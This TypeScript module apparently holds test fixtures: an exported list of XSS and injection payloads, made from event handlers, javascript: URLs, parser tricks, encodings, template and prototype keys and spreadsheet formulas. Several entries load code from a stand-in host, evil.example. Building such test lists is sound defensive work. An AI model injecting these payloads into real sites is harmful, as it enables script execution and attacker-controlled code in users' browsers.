/** Spellings of script in text, each of which would set `pwned` if it were ever read as HTML or as an address. */
const CALL = 'globalThis.pwned=1';
const HANDLERS = ['onload', 'onerror', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onbegin', 'onpageshow', 'onpointerenter', 'onwheel'];
const ELEMENTS = ['img src=x', 'svg', 'body', 'iframe', 'input autofocus', 'details open', 'video src=x', 'audio src=x', 'object data=x', 'marquee'];
const ADDRESSES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', 'javascript&colon;', 'data:text/html,<script>', 'vbscript:', 'blob:', 'javascript：', 'jav&#x61;script:'];

const handlers = HANDLERS.flatMap((handler, index) => [
  `<${ELEMENTS[index]} ${handler}=${CALL}>`,
  `"><${ELEMENTS[index]} ${handler}="${CALL}">`,
  `<${ELEMENTS[index]}/${handler}=${CALL}//`,
]);
const addresses = ADDRESSES.flatMap((address) => [
  `<a href="${address}${CALL}">x</a>`,
  `<iframe src="${address}${CALL}">`,
  `<form action="${address}${CALL}"><button>x</button></form>`,
  `${address}${CALL}`,
]);

export const attackStrings: readonly string[] = [
  ...handlers,
  ...addresses,
  `<script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<SCRIPT/XSS>${CALL}</SCRIPT>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${CALL}</script></svg>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style><img src=x onerror=${CALL}></style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="https://evil.example/">`,
  `<div style="background:url(javascript:${CALL})">`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[><img src=x onerror=${CALL}>]]>`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `\\u003cimg src=x onerror=${CALL}\\u003e`,
  `{{constructor.constructor('${CALL}')()}}`,
  '${' + CALL + '}',
  '__proto__',
  'constructor',
  'toString',
  '=HYPERLINK("https://evil.example","x")',
  '＝1+1',
];
